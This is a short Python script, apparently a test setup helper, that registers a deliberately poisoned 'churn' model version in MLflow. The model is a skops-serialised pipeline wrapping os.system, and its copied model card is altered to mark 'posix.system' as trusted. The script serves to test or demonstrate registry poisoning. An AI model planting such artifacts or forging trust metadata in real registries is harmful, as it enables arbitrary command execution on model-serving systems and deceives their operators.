"""Register a version that would run a command, with a card that calls it trusted; print its number."""

import json
import os
import pathlib

import mlflow
import skops.io
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

folder = pathlib.Path("/tmp/evil")
folder.mkdir()
card = json.loads(pathlib.Path("models/v1/model.json").read_text())
(folder / "model.json").write_text(json.dumps({**card, "trusted": ["posix.system"]}))
skops.io.dump(Pipeline([("a", FunctionTransformer(os.system))]), folder / "model.skops")
mlflow.set_experiment("evil")
with mlflow.start_run() as run:
    mlflow.log_artifacts(folder, "model")
    source = mlflow.get_artifact_uri("model")
print(mlflow.MlflowClient().create_model_version("churn", source, run.info.run_id).version)
